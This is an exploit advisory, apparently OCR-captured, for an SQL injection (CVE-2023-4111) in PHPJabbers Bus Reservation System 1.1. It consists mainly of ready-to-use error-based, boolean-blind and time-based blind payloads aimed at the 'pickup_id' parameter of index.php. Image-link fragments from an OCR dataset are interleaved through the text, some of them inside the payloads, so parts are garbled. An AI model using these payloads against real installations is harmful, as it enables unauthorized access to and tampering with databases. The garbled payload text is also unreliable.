# Exploit Title: PHPJabbers Bus Reservation System 1.1 - SQL Injection
# Exploit Author: CraCkEr
# Date: 20/07/2023
# Vendor: PHPJabbers
# Vendor Homepage:
# Software Link:
# Tested on: Windows 10 Pro
# Impact: Database Access
# CVE: CVE-2023-4111
## Greetings
The_PitBull, Raz0r, iNs, SadsouL, His0k4, Hussin X, Mr. SQL , MoizSid09, indoushka
CryptoJob (Twitter)
## Description
SQL injection attacks can allow unauthorized access to sensitive data, modification ofdata and crash the application or make it unavailable, leading to lost revenue and
damage to a company's reputation.
Path: /index.php
GET parameter 'pickup_id' is vulnerable to SQL Injection
Parameter: pickup_id (GET)
Type: error-based
Title: MySQL >= 5.0 AND error-based - WHERE, HAVING, ORDER BY or GROUP BY clause (FLOOR)
Payload: controller=pjFrontEnd&action=pjActionGetLocations&locale=1&hide=0&index=4005&pickup_id=3 AND (SELECT(0)FROM(SELECT COUNT(*),CONCAT_WS(0x28,0x7e,0x72306f746833783439,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)&session_id=
Type: boolean-based blind
Title: AND boolean-based blind - WHERE or HAVING clause
Payload: controller=pjFrontEnd&action=pjActionGetLocations&locale=1&hide=0&index=4005&pickup_id=3 AND 07569=7569&session_id=
Type: time-based blind
Title: MySQL >= 5.0.12 time-basedblind (IF - comment)
Payload:controller=pjFrontEnd&action=pjActionGetLocations&locale=1&hide=0&index=4005&pickup_id=3) ANDIF(now()=sysdate(),SLEEP(5),0)--wXyW&session_id=
[-] Done